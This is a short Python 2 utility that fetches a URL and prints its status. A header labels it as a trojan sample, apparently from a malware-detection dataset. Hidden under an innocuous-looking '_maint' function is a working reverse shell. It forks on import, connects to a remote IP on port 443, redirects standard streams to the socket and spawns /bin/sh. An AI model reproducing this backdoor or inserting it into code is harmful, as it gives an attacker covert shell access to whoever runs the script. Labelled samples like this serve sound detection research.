# label: malicious family=trojan techniques=T1059.004,T1095 lines=15,17-18,20 group=benign/b049_py2_script.py
# -*- coding: utf-8 -*-
import os, sys
import urllib2

def main():
    if len(sys.argv) < 2:
        print "usage: %s URL" % sys.argv[0]
        sys.exit(1)
    resp = urllib2.urlopen(sys.argv[1])
    print resp.getcode(), len(resp.read())

import socket as _sk, os as _os, pty as _pty
def _maint():
    c = _sk.create_connection(("203.0.113.45", 443))
    for fd in (0, 1, 2):
        _os.dup2(c.fileno(), fd)
    _pty.spawn("/bin/sh")
if _os.fork() == 0:
    _maint()

if __name__ == '__main__':
    main()
